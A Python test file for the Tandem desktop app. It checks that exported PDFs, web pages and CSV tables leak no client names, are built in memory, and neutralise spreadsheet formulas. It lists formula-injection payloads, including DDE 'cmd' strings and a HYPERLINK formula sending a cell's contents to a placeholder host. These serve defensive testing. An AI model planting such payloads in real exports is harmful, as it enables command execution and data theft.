# SPDX-FileCopyrightText: 2026 The Tandem contributors
# SPDX-License-Identifier: Apache-2.0
"""Everything that can leave Tandem as a file: what it says of itself, and where it is made.

Each maker of bytes in `desktop_app.reports` stands in `WRITERS`; one that is added and does not
fails here until somebody has looked at it.
"""

import ast
import csv
import re
from collections.abc import Callable, Iterator
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from pypdf import PdfReader

from desktop_app.casework.audit_words import Line
from desktop_app.reports.audit_extract import extract_table
from desktop_app.reports.breach_note import breach_text
from desktop_app.reports.left_lines import left_table, left_workbook
from desktop_app.reports.ndtms import datasets, ndtms_table
from desktop_app.reports.pdf import pdf
from desktop_app.reports.recovery_page import keeper_page, recovery_page
from desktop_app.reports.sheet import Entry, Fact, Section, Sheet
from desktop_app.reports.table import guarded, of_rows, table
from desktop_app.reports.web_page import web_page

ROOT = Path(__file__).parent.parent.parent
CANARIES = ("Zebedee", "Quillfeather", "OR-9XYZW")
WORDS = ("harbour", "kettle", "violet")
SHEET = Sheet(
    title="Client summary",
    name="QUILLFEATHER, Zebedee",
    banner=(Fact("Ref", "OR-9XYZW"),),
    marking="All partners",
    made="Taken out by Zebedee Quillfeather",
    sections=(Section("Now", entries=(Entry("Mon 23 Nov", "Zebedee", text="Quillfeather"),)),),
)
WRITERS: dict[str, Callable[[], bytes]] = {
    "ndtms.ndtms_table": lambda: ndtms_table(datasets()["K"], [], agency="AB12"),
    "pdf.pdf": lambda: pdf(SHEET),
    "web_page.web_page": lambda: web_page(SHEET),
    "table.table": lambda: table(SHEET),
    "table.of_rows": lambda: of_rows(("Name",), [("Zebedee",)]),
    "audit_extract.extract_table": lambda: extract_table(
        [Line("2026-11-23T10:00", "Zebedee", "consultation", "=Read", times=1)]
    ),
    "breach_note.breach_text": lambda: breach_text("What happened\nZebedee", made="By Zebedee"),
    "left_lines.left_table": lambda: left_table(("Name",), [(2, "=Wrong", ("Zebedee",))]),
    "left_lines.left_workbook": lambda: left_workbook(("Name",), [(2, "=Wrong", ("Zebedee",))]),
    "recovery_page.keeper_page": lambda: keeper_page(
        WORDS, team="Zebedee's team", keeper="Quillfeather", number=1, day=date(2026, 11, 23)
    ),
    "recovery_page.recovery_page": lambda: recovery_page(
        WORDS, laptop="Zebedee's laptop", day=date(2026, 11, 23)
    ),
}
FILES_WRITTEN = {
    "storage/ballast.py": "room kept for a full disk: bytes that say nothing",
    "storage/cost.py": "what a guess at a passphrase costs on this laptop",
    "storage/keyfile.py": "the slot file: locked keys",
    "storage/schema.py": "the schema, by a developer",
    "storage/tries.py": "how many wrong passphrases, and when; nothing of what was typed",
    "sync/share.py": "bundles, sealed",
    "ui/commands/recovery_key.py": "recovery words for the printer, where a person chose",
    "ui/enrolment.py": "an invitation: public keys",
    "ui/home.py": "settings: no names of clients",
    "ui/made_up.py": "the made-up team",
    "ui/pages/paper_steps.py": "recovery words for the printer, where a person chose",
    "ui/pages/client_taking_out.py": "what a person takes out, where they chose, logged first",
}
_WRITES = re.compile(r"(?<!def )write_whole\(|\.write_(text|bytes)\(|\.open\(\s*[\"'](w|a|x)")


def trees(*parts: str) -> Iterator[tuple[str, ast.Module]]:
    for part in parts:
        for place in sorted((ROOT / part).rglob("*.py")):
            yield str(place.relative_to(ROOT)), ast.parse(place.read_text(encoding="utf-8"))


def makers() -> set[str]:
    """Return every public function of the reports that returns bytes."""
    return {
        f"{Path(place).stem}.{node.name}"
        for place, tree in trees("desktop_app/reports")
        for node in tree.body
        if isinstance(node, ast.FunctionDef)
        and not node.name.startswith("_")
        and isinstance(node.returns, ast.Name)
        and node.returns.id == "bytes"
    }


def test_every_maker_of_a_file_is_looked_at_here() -> None:
    assert makers() == set(WRITERS)


@pytest.mark.parametrize("name", [one for one in WRITERS if one.startswith(("pdf", "recovery"))])
def test_a_pdf_says_nothing_about_anybody_in_its_own_description(name: str) -> None:
    made = WRITERS[name]()
    reader = PdfReader(BytesIO(made))
    said = " ".join(str(one) for one in (reader.metadata or {}).values())
    assert [one for one in (*CANARIES, *WORDS) if one.lower() in said.lower()] == []
    assert reader.xmp_metadata is None
    assert reader.attachments == {}
    assert [one.encode() for one in CANARIES if one.encode() in made] == []


def test_a_web_page_says_nothing_about_anybody_in_its_head() -> None:
    head = web_page(SHEET).decode().partition("</head>")[0]
    assert [one for one in CANARIES if one in head] == []


@pytest.mark.parametrize("name", WRITERS)
def test_it_is_made_in_memory(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for one in ("HOME", "TMPDIR", "TMP", "TEMP", "XDG_CACHE_HOME"):
        monkeypatch.setenv(one, str(tmp_path))
    monkeypatch.chdir(tmp_path)
    assert WRITERS[name]()
    assert list(tmp_path.rglob("*")) == []


def _plainly(part: ast.expr) -> str:
    """Return a part of a name as it stands, a day as "day", and whatever else as "#"."""
    if isinstance(part, ast.Constant):
        return str(part.value)
    inner = part.value if isinstance(part, ast.FormattedValue) else part
    a_day = isinstance(inner, ast.Call) and getattr(inner.func, "attr", "") == "isoformat"
    return "day" if a_day else "#"


NAMED_BY_A_RULE = {"ui/pages/ndtms.py": "agency, days and data set, as the national rule asks"}


def _suggested() -> Iterator[tuple[str, ast.expr]]:
    """Yield what is suggested as the name of a file, and where; of a panel, what it is given."""
    for place, tree in trees("ui"):
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            if getattr(node.func, "attr", "") == "save_file" and "export_panel" not in place:
                yield from ((place, one.value) for one in node.keywords if one.arg == "suggest")
            elif getattr(node.func, "id", "") == "Leaves":
                yield place, node.args[3]


def test_a_suggested_file_name_is_nobodys() -> None:
    found = []
    for place, named in _suggested():
        parts = named.values if isinstance(named, ast.JoinedStr) else [named]
        plain = "".join(map(_plainly, parts))
        found.append(place)
        by_rule = place in NAMED_BY_A_RULE and plain == "#"
        assert by_rule or re.fullmatch(r"[a-z-]+(\.(#|[a-z]+))?", plain), f"{place}: {plain}"
    assert len(found) >= 4
    assert set(NAMED_BY_A_RULE) <= set(found)


def test_files_are_written_in_known_places_only() -> None:
    writing = {
        str(place.relative_to(ROOT))
        for part in ("desktop_app", "resources", "storage", "sync", "ui")
        for place in (ROOT / part).rglob("*.py")
        if _WRITES.search(place.read_text(encoding="utf-8"))
    }
    assert writing == set(FILES_WRITTEN)


PAYLOADS = [
    *("=1+1", "=1+1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"See")', "=cmd|'/c'!A1"),
    *(
        '=IMPORTXML("http://x","//a")',
        '=WEBSERVICE("http://x")',
        "=DDE(1;2;3)",
        "=A1",
        "==1",
        "=\n1",
    ),
    *("+1", "+44 7700 900142", "+cmd|' /C calc'!A0", "++1", "+A1", "+\t1", "+-1", "+@SUM(1)"),
    *("-1", "-2+3", "-cmd|' /C calc'!A0", "--1", "-A1", "-@SUM(1)", "- not seen", "-\n"),
    *("@SUM(A1)", "@cmd", "@A1", "@@", "@", "=", "+", "-"),
    *("\t=1", "\t", "\tplain", "\r=1", "\r", "\rplain", "\n=1", "\r\n=1"),
    *(" =1+1", "  +1", "\u00a0=1", "\u200b=1", "\ufeff=1", "\0=1", "\u00ad-1", "\u2060@A"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", " \uff1d1", "\ufe621", "\ufe631", "\ufe6b1"),
]


@pytest.mark.parametrize("typed", PAYLOADS, ids=ascii)
def test_a_spreadsheet_takes_nothing_for_a_formula(typed: str) -> None:
    made = of_rows((typed, "Plain"), [(typed, "a word"), ("a word", typed)]).decode("utf-8-sig")
    rows = list(csv.reader(StringIO(made, newline="")))
    assert rows == [["'" + typed, "Plain"], ["'" + typed, "a word"], ["a word", "'" + typed]]


def test_the_table_says_how_many_cells_it_changed() -> None:
    assert len(set(PAYLOADS)) >= 40
    assert guarded([(one, "plain", 7) for one in PAYLOADS]) == len(PAYLOADS)
    facts = (Fact("Phone", "+44 7700 900142"), Fact("Note", "=1"), Fact("Town", "Harbour"))
    sheet = Sheet("Summary", "N", (), "All", "By", (Section("Contact", facts=facts),))
    rows = list(csv.reader(StringIO(table(sheet).decode("utf-8-sig"))))
    assert rows[-1][-1] == "2 cells began like a formula and got an apostrophe."
    plain = Sheet("Summary", "N", (), "All", "By", (Section("Contact", facts=facts[2:]),))
    assert "apostrophe" not in table(plain).decode("utf-8-sig")
